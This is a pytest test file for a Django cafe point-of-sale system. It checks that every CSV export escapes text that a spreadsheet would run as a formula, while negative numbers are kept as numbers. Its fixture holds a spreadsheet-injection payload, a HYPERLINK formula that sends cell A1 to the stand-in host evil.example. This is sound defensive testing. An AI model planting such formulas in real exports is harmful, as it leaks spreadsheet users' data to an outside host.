"""Text a cashier, an integrator or a manager typed reaches every CSV the product writes; a spreadsheet
must never run it as a formula, and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from accounts.tests.factories import TerminalFactory
from cafepos.csvsafe import FORMULA_STARTS, cell, unescape
from menu.csv_io import menu_export_csv, menu_import_csv
from menu.models import MenuItem
from orders.services import order_create, payment_add
from orders.services.shifts import shift_close
from orders.tests.factories import ShiftFactory, line
from reports.exports import export_job_run
from reports.report_tables import REPORT_TABLES
from reports.services import export_job_create

pytestmark = pytest.mark.django_db
DASHBOARD = "/backoffice/reports/"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def poisoned(cafe):
    """A sale whose source, item and terminal names start like formulas, paid and closed in a shift."""
    cafe.soup.name = FORMULA
    cafe.soup.save(update_fields=["name"])
    terminal = TerminalFactory(location=cafe.location, name="@SUM(A1:A9)")
    shift = ShiftFactory(terminal=terminal, staff=cafe.cashier)
    order = order_create(
        location=cafe.location, staff=cafe.cashier, type="TAKEAWAY", lines=[line(cafe.soup)], source=FORMULA
    )
    payment_add(order=order, staff=cafe.cashier, tender="CARD", amount=order.balance_due, tip=Decimal("0"))
    shift_close(shift=shift, staff=cafe.cashier, counted_cash=Decimal("100.00"))
    return order


def cells_of(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def assert_safe(text: str, *escaped: str) -> None:
    """No cell runs as a formula unless it is a number; each of `escaped` is there, with its `'`."""
    cells = cells_of(text)
    for value in cells:
        if value.startswith(FORMULA_STARTS):
            Decimal(value)  # a negative number: allowed (raises on text)
    for value in escaped:
        assert "'" + value in cells


@pytest.mark.parametrize("name", REPORT_TABLES)
def test_every_report_csv_escapes_formula_text(client, cafe, poisoned, name):
    client.force_login(cafe.owner)
    day = poisoned.business_day

    response = client.get(f"{DASHBOARD}csv/{name}/", {"from": day, "to": day})

    assert response.status_code == 200
    # (the source report shows sources title-cased)
    expected = {"source": [FORMULA.title()], "item": [FORMULA], "shifts": ["@SUM(A1:A9)"]}.get(name, [])
    assert_safe(response.content.decode(), *expected)


@pytest.mark.parametrize("kind", ["ORDERS", "LINES"])
def test_the_orders_export_escapes_formula_text(cafe, poisoned, kind, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    day = poisoned.business_day
    job = export_job_create(user=cafe.owner, locations=[cafe.location], kind=kind, date_from=day, date_to=day)

    assert export_job_run(job_id=job.pk) == "done"

    job.refresh_from_db()
    with job.file.open("r") as exported:
        assert_safe(exported.read(), FORMULA)


def test_the_menu_export_escapes_names_and_imports_back_unchanged(cafe, poisoned):
    exported = menu_export_csv(location=cafe.location)
    assert_safe(exported, FORMULA)

    result = menu_import_csv(location=cafe.location, content=exported)

    assert result.updated == 0
    assert MenuItem.objects.get(pk=cafe.soup.pk).name == FORMULA


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_formula_text_is_prefixed_and_numbers_are_kept(text):
    assert cell(text) == "'" + text
    assert unescape(cell(text)) == text
    assert cell(Decimal("-5.00")) == Decimal("-5.00")
    assert cell(-3) == -3
    assert cell("Cappuccino") == unescape("Cappuccino") == "Cappuccino"
